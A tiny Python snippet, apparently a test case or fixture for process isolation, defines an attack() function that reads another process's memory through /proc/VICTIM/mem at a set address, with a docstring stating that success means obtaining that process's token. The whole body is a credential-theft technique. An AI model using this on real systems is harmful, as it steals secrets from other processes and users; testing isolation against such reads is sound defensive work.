"""Read another process's memory by /proc. Success: its token."""


def attack():
    with open(f"/proc/{VICTIM}/mem", "rb") as memory:
        memory.seek(ADDRESS)
        return memory.read(LENGTH)
